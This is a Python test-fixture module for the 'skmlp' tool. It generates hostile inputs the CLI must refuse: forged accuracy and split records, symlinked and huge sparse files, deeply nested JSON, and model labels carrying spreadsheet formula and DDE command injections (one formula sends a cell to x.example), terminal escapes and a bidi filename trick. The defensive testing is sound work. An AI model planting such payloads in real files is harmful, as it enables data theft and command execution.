"""Hostile results folders and model files of issue 24 (findings 8, 9, 10, 11).

Used by ``tests/test_trust_records.py`` and by the benchmark of issue 24: each
entry of :data:`CASES` is ``(finding, name, make)``, where ``make(folder)`` writes
the hostile input at full scale into ``folder`` and returns the arguments of
``python -m skmlp`` (relative to ``folder``) that must be refused: a non-zero exit
with a one-line error, within 1.5 GB and 10 s.
"""

from __future__ import annotations

import hashlib
import json
import os
from pathlib import Path

import numpy as np

#: A finished run that takes a few seconds: one architecture, two folds, one epoch.
TINY = dict(dataset="digits", architectures=["mlp2"], cv=2, epochs=1, n_train=100, n_test=50)
#: Its command line (``--out`` added by the caller).
TINY_ARGS = ["run", "--dataset", "digits", "--architectures", "mlp2", "--cv", "2", "--epochs",
             "1", "--n-train", "100", "--n-test", "50", "--no-plots", "--quiet"]  # fmt: skip

#: Class labels an attacker would put in a model file.
HOSTILE_LABELS = [
    '=HYPERLINK("http://x.example/?"&A1,"click")',  # a spreadsheet formula
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\x1b]0;owned\x07\x1b[2J",  # set the terminal title, clear the screen
    "safe\u202eexe.txt",  # a bidi override: shows as "safetxt.exe"
]


def finished_run(out: Path) -> Path:
    """A legitimate finished run of :data:`TINY` in ``out`` (in this process)."""
    from skmlp.experiment import ExperimentConfig, run_experiment

    run_experiment(ExperimentConfig(**TINY), out=out, verbose=False, plots=False)
    return out


def forge_test_accuracy(out: Path, value: float = 0.999) -> None:
    """Claim ``value`` as the test accuracy of every reported model (results and records)."""
    import pandas as pd

    results = pd.read_csv(out / "results.csv")
    results["test_accuracy"] = value
    results.to_csv(out / "results.csv", index=False)
    for path in (out / "refits").glob("*.json"):
        record = json.loads(path.read_text())
        path.write_text(json.dumps(record | {"test_accuracy": value}))


def deep_json(path: Path, depth: int = 1_000_000) -> None:
    """Valid-looking JSON nested ``depth`` deep (Python's parser recursed until it crashed)."""
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text("[" * depth + "]" * depth)


def sparse_file(path: Path, size: int) -> None:
    """A file of ``size`` bytes taking no disk space (it was read whole, into memory)."""
    path.parent.mkdir(parents=True, exist_ok=True)
    with open(path, "wb") as f:
        f.truncate(size)


def npz_data(folder: Path) -> Path:
    """A small own-data ``.npz`` (X, y: split by skmlp into train and test)."""
    from sklearn.datasets import load_iris

    X, y = load_iris(return_X_y=True)
    path = folder / "iris.npz"
    np.savez(path, X=X.astype(np.float32), y=y)
    return path


def npz_config(folder: Path, npz: Path) -> Path:
    path = folder / "search.toml"
    path.write_text(
        f'[data]\nnpz = "{npz.name}"\n[estimator]\nmax_iter = 1\n'
        '[search]\nkind = "grid"\ncv = 2\nreport_top = 1\n'
        "[search.space]\nhidden_layer_sizes = [[4]]\n"
    )
    return path


def forged_split(out: Path, npz: Path, rows) -> Path:
    """A ``test_split.json`` of the right data naming the test ``rows`` an attacker chose."""
    out.mkdir(parents=True, exist_ok=True)
    path = out / "test_split.json"
    sha = hashlib.sha256(npz.read_bytes()).hexdigest()
    record = {"source_sha256": sha, "test_size": 0.2, "random_state": 0, "n_rows": 150,
              "test_rows": list(rows)}  # fmt: skip
    path.write_text(json.dumps(record))
    return path


def labels_model(path: Path, labels=HOSTILE_LABELS) -> Path:
    """A small fitted classifier whose classes are ``labels``, saved as ``.skmlp``."""
    import skmlp

    rng = np.random.default_rng(0)
    X = rng.normal(size=(10 * len(labels), 3)).astype(np.float32)
    y = np.array(labels, dtype=object)[np.arange(len(X)) % len(labels)]
    X[np.arange(len(X)), np.arange(len(X)) % 3] += 3 * (np.arange(len(X)) % len(labels))
    model = skmlp.MLPClassifier(hidden_layer_sizes=(4,), max_iter=2, random_state=0).fit(X, y)
    skmlp.save(model, path)
    return path


# ------------------------------------------------------ the benchmark's cases
def _huge_test_split(folder: Path) -> list[str]:
    npz = npz_data(folder)
    config = npz_config(folder, npz)
    sparse_file(folder / "out" / "test_split.json", 4 * 2**30)  # was read whole: 8 GB
    return ["run", "--config", config.name, "--out", "out", "--no-plots", "--quiet"]


def _huge_fit_record(folder: Path) -> list[str]:
    sparse_file(folder / "out" / "fits" / "0123456789abcdef01234567.json", 2 * 2**30)
    return [*TINY_ARGS, "--out", "out"]


def _deep_run_json(folder: Path) -> list[str]:
    deep_json(folder / "out" / "run.json")
    return [*TINY_ARGS, "--out", "out"]


def _negative_test_rows(folder: Path) -> list[str]:
    npz = npz_data(folder)
    config = npz_config(folder, npz)
    forged_split(folder / "out", npz, [-1])  # one test row, the last one, counted from the end
    return ["run", "--config", config.name, "--out", "out", "--no-plots", "--quiet"]


def _linked_run_json(folder: Path) -> list[str]:
    from skmlp.experiment import ExperimentConfig

    # somebody's file, which happens to read as this run's record: it was read, and
    # the run went on (replacing the link); it must not be read at all
    precious = folder / "precious.json"
    precious.write_text(json.dumps({"config_key": ExperimentConfig(**TINY).key()}))
    (folder / "out").mkdir(exist_ok=True)
    os.symlink(precious, folder / "out" / "run.json")
    return [*TINY_ARGS, "--out", "out"]


def _huge_results_for_a_card(folder: Path) -> list[str]:
    finished_run(folder / "out")  # a model card reads the run's results table back
    (folder / "out" / "results.csv").unlink()
    sparse_file(folder / "out" / "results.csv", 4 * 2**30)
    return ["export", "out/best_model.skmlp", "model.onnx", "--card"]


CASES = [
    (8, "test_split.json of 4 GB (sparse)", _huge_test_split),
    (8, "fit record of 2 GB (sparse)", _huge_fit_record),
    (8, "test_split.json naming row -1 only", _negative_test_rows),
    (8, "run.json a link to another file", _linked_run_json),
    (9, "run.json nested 1,000,000 deep", _deep_run_json),
    (30, "export --card: results.csv of 4 GB (sparse)", _huge_results_for_a_card),
]
